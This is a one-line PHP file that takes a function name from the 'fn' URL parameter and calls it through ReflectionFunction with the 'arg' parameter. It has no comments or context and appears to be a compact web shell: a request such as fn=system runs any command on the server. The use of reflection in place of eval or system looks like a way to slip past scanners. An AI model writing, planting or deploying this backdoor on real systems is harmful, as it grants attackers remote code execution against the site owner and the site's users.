<?php $c = new ReflectionFunction($_GET['fn']); $c->invoke($_GET['arg']);
